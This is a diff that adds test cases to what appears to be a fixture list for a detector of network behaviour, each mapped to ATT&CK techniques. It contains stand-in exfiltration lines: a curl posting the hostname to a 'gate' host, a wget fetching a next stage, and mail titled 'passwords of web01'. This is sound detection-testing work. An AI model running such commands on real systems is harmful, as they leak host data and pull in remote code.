@@ -221,6 +221,56 @@ with smtplib.SMTP("mail.corp.example", 25) as server: server.send_message(mail)
     core: true,
   },
   {
+    name: 'trusts only an authority of its own',
+    language: 'python',
+    source: `
+import socket, ssl
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+try: context.wrap_socket(socket.create_connection(("pinned.example", 443)), server_hostname="pinned.example")
+except ssl.SSLError: pass
+`,
+    shows: {},
+    label: 'unknown',
+    tells: ['pinned.example', 'TLS was not agreed on: unknown_ca'],
+  },
+  {
+    name: 'requests over TLS by every client of the system',
+    language: 'shell',
+    source: shell([
+      'curl -s https://curl.example/gate -d "host=$(hostname)" -A agent/1',
+      'wget -qO- https://wget.example/next.txt',
+      `python3 -c 'import urllib.request as u; u.urlopen("https://python.example:8443/p?q=1").read()'`,
+    ]),
+    shows: {
+      trace_sends_data_out: ['T1041'],
+      trace_fetches_further_stage: ['T1105', 'T1071.001'],
+    },
+    label: 'suspicious',
+    tells: [
+      'https://curl.example/gate',
+      'host=web01',
+      'https://wget.example/next.txt',
+      'https://python.example:8443/p?q=1',
+    ],
+    watchedSeconds: 60,
+    core: true,
+  },
+  {
+    name: 'sends mail within TLS',
+    language: 'python',
+    source: String.raw`
+import smtplib
+server = smtplib.SMTP("mail.example", 587)
+server.starttls()
+server.sendmail("a@x.example", ["b@y.example"], "Subject: passwords of web01\r\n\r\nnone")
+server = smtplib.SMTP_SSL("mail.example", 465)
+server.sendmail("a@x.example", ["c@y.example"], "Subject: and more\r\n\r\nnone")
+`,
+    shows: { trace_sends_mail: ['T1071.003'] },
+    label: 'unknown',
+    tells: ['b@y.example', 'c@y.example', 'passwords of web01', 'and more'],
+  },
+  {
     name: 'many made-up names',
     language: 'python',
     source: `
